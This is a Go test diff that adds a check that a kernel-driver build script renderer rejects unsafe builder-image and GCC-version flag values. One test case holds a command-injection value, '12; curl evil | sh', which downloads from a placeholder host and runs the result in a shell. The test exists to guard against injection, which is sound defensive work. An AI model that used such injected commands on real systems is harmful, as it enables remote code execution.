@@ -94,3 +94,21 @@ func TestDebianKeepsOnlyTheFlavourPackages(t *testing.T) {
 		t.Errorf("plain: %v", got)
 	}
 }
+
+// Flags (--builder-image, --gcc-version) reach the script too: they are
+// allowlisted like config values.
+func TestRenderRefusesUnsafeImageAndGCC(t *testing.T) {
+	k := debianKernel("6.1.170-3-amd64")
+	dv := config.DriverVersion{Version: "9.1.0+driver"}
+	for _, tc := range []struct{ image, gcc string }{
+		{"dbg-builder:bookworm", "12; curl evil | sh"},
+		{"dbg-builder:bookworm", ""},
+		{"Evil Image", "12"},
+		{"", "12"},
+		{"auto:latest", "12"},
+	} {
+		if _, err := renderVersion(k, dv, []config.Kind{config.Module}, tc.image, tc.gcc); err == nil {
+			t.Errorf("image %q, gcc %q rendered", tc.image, tc.gcc)
+		}
+	}
+}
